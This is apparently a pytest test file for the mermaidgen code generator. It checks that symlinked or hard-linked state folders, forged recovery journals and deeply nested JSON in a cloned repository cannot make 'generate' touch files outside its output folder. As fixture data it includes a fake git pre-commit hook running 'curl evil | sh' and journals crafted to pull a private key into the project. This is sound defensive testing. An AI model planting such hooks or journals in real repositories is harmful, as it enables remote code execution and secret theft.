"""A cloned repository is hostile input: its `.mermaidgen/` state folder may hold links and
journals made to turn a plain `mermaidgen generate` (which first undoes an interrupted run)
into a tool that deletes, creates or moves files outside the output folder.

Each test builds one attack against a throw-away decoy folder next to the output, runs
`mermaidgen generate` as a user of the clone would, and compares a listing of the decoy
(every entry, with the hash of every file) taken before and after: it must be identical,
and the run must stop with a clear error (exit 1), never a traceback.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
from pathlib import Path

import pytest

from mermaidgen.codegen.write import output

PROJECT = Path(__file__).resolve().parents[1]
CHECKOUT = (PROJECT / "samples" / "checkout.mmd").read_text(encoding="utf-8")
STATE = ".mermaidgen"

pytestmark = pytest.mark.skipif(not hasattr(os, "symlink") or os.name == "nt",
                                reason="needs symbolic links")


@pytest.fixture(autouse=True)
def _no_fsync(monkeypatch):
    """fsync guards against power loss, which no test here causes (as in test_output.py)."""
    monkeypatch.setattr(output.os, "fsync", lambda fd: None)


def listing(root: Path) -> dict[str, tuple]:
    """Every entry under `root`, links not followed: files with their hash and mode."""
    found: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder, name)
            info = path.lstat()
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(info.st_mode):
                found[rel] = ("link", os.readlink(path))
            elif stat.S_ISDIR(info.st_mode):
                found[rel] = ("dir", stat.S_IMODE(info.st_mode))
            else:
                found[rel] = ("file", hashlib.sha256(path.read_bytes()).hexdigest(),
                              stat.S_IMODE(info.st_mode), info.st_nlink)
    return found


@pytest.fixture
def clone(tmp_path, cli) -> tuple[Path, Path, Path]:
    """(source, output folder, decoy): a generated project, as a cloned repository holds
    it, and a decoy folder outside it that looks like state worth attacking."""
    source = tmp_path / "checkout.mmd"
    source.write_text(CHECKOUT, encoding="utf-8")
    out = tmp_path / "svc"
    assert cli("generate", source, "--out", out).code == 0
    decoy = tmp_path / "decoy"
    for sub in ("staging/checkout", "backup/checkout", "replaced"):
        (decoy / sub).mkdir(parents=True)
    (decoy / "id_rsa").write_text("-----BEGIN PRIVATE KEY-----\nsecret\n")
    (decoy / "staging" / "checkout" / "work.py").write_text("precious = 1\n")
    (decoy / "backup" / "checkout" / "notes.txt").write_text("precious notes\n")
    return source, out, decoy


def _journal(state: Path, paths: list[str], existed: list[str], dirs: list[str] = ()) -> None:
    (state / "journal.json").write_text(json.dumps(
        {"paths": paths, "existed": existed, "dirs": list(dirs)}))


def _attacked(cli, source: Path, out: Path, decoy: Path, *, must_say: str) -> str:
    """Run `generate` on the attacked clone: refused, exit 1, the decoy untouched."""
    decoy_before = listing(decoy)
    result = cli("generate", source, "--out", out)
    assert result.code == 1, result.err
    assert must_say in result.err, result.err
    assert listing(decoy) == decoy_before
    return result.err


# --- `.mermaidgen` itself is a link --------------------------------------------------------

@pytest.mark.parametrize("with_journal", [False, True], ids=["scratch", "journal"])
def test_a_linked_state_folder_is_refused_before_recovery(cli, clone, with_journal):
    """`svc/.mermaidgen` committed as a link to a folder elsewhere: recovering would take
    the lock there and delete its `staging/` and `backup/` (or replay its journal)."""
    source, out, decoy = clone
    shutil.copy2(out / output.MANIFEST, decoy / "manifest.json")
    if with_journal:
        _journal(decoy, ["checkout/notes.txt"], ["checkout/notes.txt"])
    shutil.rmtree(out / STATE)
    (out / STATE).symlink_to(decoy, target_is_directory=True)
    err = _attacked(cli, source, out, decoy, must_say="symbolic link")
    assert str(out / STATE) in err
    assert not (decoy / "lock").exists()
    assert not (out / "checkout" / "notes.txt").exists()


def test_a_linked_state_folder_is_refused_by_recover_itself(clone):
    _, out, decoy = clone
    shutil.rmtree(out / STATE)
    (out / STATE).symlink_to(decoy, target_is_directory=True)
    before = listing(decoy)
    with pytest.raises(output.OutputError, match="symbolic link"):
        output.recover(out)
    assert listing(decoy) == before


# --- links inside `.mermaidgen` --------------------------------------------------------------

def test_a_linked_backup_and_a_journal_cannot_move_a_file_in(cli, clone):
    """The attack of the issue: `backup` links to a folder holding a private key, and the
    journal says the run replaced `id_rsa`: replaying it would move the key into the
    project, where `git add -A` commits it."""
    source, out, decoy = clone
    (out / STATE / "backup").symlink_to(decoy, target_is_directory=True)
    _journal(out / STATE, ["id_rsa"], ["id_rsa"])
    err = _attacked(cli, source, out, decoy, must_say="symbolic link")
    assert "journal" in err and "delete" in err  # says what to do about it
    assert not (out / "id_rsa").exists()


def test_a_linked_staging_folder_with_a_journal_is_refused(cli, clone):
    source, out, decoy = clone
    (out / STATE / "staging").symlink_to(decoy / "staging", target_is_directory=True)
    _journal(out / STATE, ["checkout/work.py"], [])
    _attacked(cli, source, out, decoy, must_say="symbolic link")


def test_a_linked_journal_is_not_read(cli, clone):
    """A journal that is a link to a file elsewhere: neither read nor replayed."""
    source, out, decoy = clone
    (decoy / "journal.json").write_text(json.dumps(
        {"paths": ["checkout/__init__.py"], "existed": [], "dirs": []}))
    (out / STATE / "journal.json").symlink_to(decoy / "journal.json")
    before = (out / "checkout" / "__init__.py").read_bytes()
    _attacked(cli, source, out, decoy, must_say="symbolic link")
    assert (out / "checkout" / "__init__.py").read_bytes() == before


def test_a_hard_linked_backup_copy_is_not_moved_in(cli, clone):
    """A backup "copy" that is another name of a file elsewhere (a hard link) is no copy
    mermaidgen made: putting it back would bring the outside file into the project."""
    source, out, decoy = clone
    (out / STATE / "backup").mkdir()
    os.link(decoy / "id_rsa", out / STATE / "backup" / "id_rsa")
    _journal(out / STATE, ["id_rsa"], ["id_rsa"])
    _attacked(cli, source, out, decoy, must_say="journal")
    assert not (out / "id_rsa").exists()


def test_a_linked_lock_file_is_not_created_through(cli, clone):
    """`.mermaidgen/lock` links to a file that does not exist yet: opening the lock must
    not create it."""
    source, out, decoy = clone
    (out / STATE / "lock").unlink()
    (out / STATE / "lock").symlink_to(decoy / "created-by-lock")
    (out / "checkout" / "__init__.py").unlink()  # something to write
    _attacked(cli, source, out, decoy, must_say="symbolic link")
    assert not (decoy / "created-by-lock").exists()


def test_a_linked_manifest_is_not_read(cli, clone):
    source, out, decoy = clone
    shutil.copy2(out / output.MANIFEST, decoy / "manifest.json")
    (out / output.MANIFEST).unlink()
    (out / output.MANIFEST).symlink_to(decoy / "manifest.json")
    _attacked(cli, source, out, decoy, must_say="symbolic link")


# --- journal entries ---------------------------------------------------------------------

def test_a_journal_entry_through_a_linked_folder_is_refused(cli, clone):
    """A folder of the project links outside, and the journal says the run created a file
    there: undoing it would delete the decoy's file."""
    source, out, decoy = clone
    (out / "lib").symlink_to(decoy / "staging" / "checkout", target_is_directory=True)
    _journal(out / STATE, ["lib/work.py"], [], ["lib"])
    _attacked(cli, source, out, decoy, must_say="symbolic link")
    assert (decoy / "staging" / "checkout" / "work.py").exists()


def test_a_journal_cannot_write_into_git(cli, clone):
    """`.git/hooks` is inside the output folder when it is a repository's root, but no
    generated file goes there: a journal that "puts back" a hook would run code at the
    next commit."""
    source, out, decoy = clone
    (out / ".git" / "hooks").mkdir(parents=True)
    hook = out / STATE / "backup" / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    _journal(out / STATE, [".git/hooks/pre-commit"], [".git/hooks/pre-commit"])
    _attacked(cli, source, out, decoy, must_say="journal")
    assert not (out / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.parametrize("journal", [
    {"paths": ["a.txt"], "existed": ["b.txt"], "dirs": []},
    {"paths": ["a.txt"], "existed": [], "dirs": ["elsewhere"]},
    {"paths": ["a.txt"], "existed": [], "dirs": [], "extra": {"../x": 1}},
    {"paths": ["a/./b.txt"], "existed": []},
    {"paths": [".mermaidgen/lock"], "existed": []},
], ids=["existed-not-a-path", "dir-of-no-path", "unknown-key", "dot-part", "own-state"])
def test_a_journal_mermaidgen_could_not_have_written_is_refused(cli, clone, journal):
    source, out, decoy = clone
    (out / "a.txt").write_text("keep me\n")
    (out / STATE / "journal.json").write_text(json.dumps(journal))
    err = _attacked(cli, source, out, decoy, must_say="cannot be replayed")
    assert "delete" in err
    assert (out / "a.txt").read_text() == "keep me\n"


def test_a_valid_journal_is_still_replayed(cli, clone):
    """The checks refuse only what mermaidgen never writes: a real interrupted run (one
    file already replaced, its backup beside it) is still put back."""
    source, out, _ = clone
    init = out / "checkout" / "__init__.py"
    original = init.read_bytes()
    (out / STATE / "backup" / "checkout").mkdir(parents=True)
    shutil.copy2(init, out / STATE / "backup" / "checkout" / "__init__.py")
    init.write_text("half of a new run\n")
    _journal(out / STATE, ["checkout/__init__.py"], ["checkout/__init__.py"])
    result = cli("generate", source, "--out", out)
    assert result.code == 0, result.err
    assert "undid an interrupted earlier run" in result.err
    assert init.read_bytes() == original


@pytest.mark.parametrize("text", ["[" * 100_000, '{"paths": ' + "[" * 100_000],
                         ids=["nested-list", "nested-in-object"])
def test_a_deeply_nested_journal_is_a_clear_error(cli, clone, text):
    """JSON nested deeper than the parser's recursion allows: refused like any journal
    that cannot be read, not an internal error."""
    source, out, decoy = clone
    (out / STATE / "journal.json").write_text(text)
    _attacked(cli, source, out, decoy, must_say="cannot be replayed")


def test_a_deeply_nested_manifest_is_a_clear_error(cli, clone):
    source, out, decoy = clone
    (out / output.MANIFEST).write_text("[" * 100_000)
    _attacked(cli, source, out, decoy, must_say="manifest")


# A journal or manifest nested 100,000 deep, read on a normal thread with the recursion
# limit raised (as the CLI raises it, and as a test run that used the CLI leaves it): json's
# C decoder used to overflow the C stack and kill the process (a segfault under xdist).
DEEP_STATE = """
import sys
from pathlib import Path
sys.setrecursionlimit(200_000)
from mermaidgen.codegen.write import output
out = Path(sys.argv[1])
try:
    output.{call}(out)
except output.OutputError as error:
    print("refused:", error)
"""


@pytest.mark.parametrize("name, call", [("journal.json", "recover"),
                                        ("manifest.json", "read_manifest")])
def test_deeply_nested_state_is_refused_not_a_crash(tmp_path: Path, name: str,
                                                    call: str) -> None:
    import subprocess
    import sys

    out = tmp_path / "svc"
    (out / STATE).mkdir(parents=True)
    (out / STATE / name).write_text("[" * 100_000, encoding="utf-8")
    done = subprocess.run([sys.executable, "-c", DEEP_STATE.format(call=call), str(out)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "refused:" in done.stdout and "nested more than" in done.stdout, done.stdout


def test_a_linked_hook_module_is_not_read(clone) -> None:
    """A clone whose hook module is a link to a file elsewhere: the look for hooks the
    diagram no longer has never reads it (`generate` refuses the link at planning, but
    `stale_hooks` is library code and used to parse it, echoing its method names)."""
    from mermaidgen import parse
    from mermaidgen.codegen.generate import build
    from mermaidgen.codegen.write.user_code import stale_hooks

    source, out, decoy = clone
    outside = decoy / "payments.py"
    outside.write_text("class Payments:\n    def private_outside_method(self):\n"
                       "        pass\n", encoding="utf-8")
    hook = out / "checkout" / "services" / "payments.py"
    hook.unlink()
    hook.symlink_to(outside)
    generation = build(parse(CHECKOUT, source=source.name), CHECKOUT)
    assert not any("private_outside_method" in line for line in stale_hooks(generation, out))
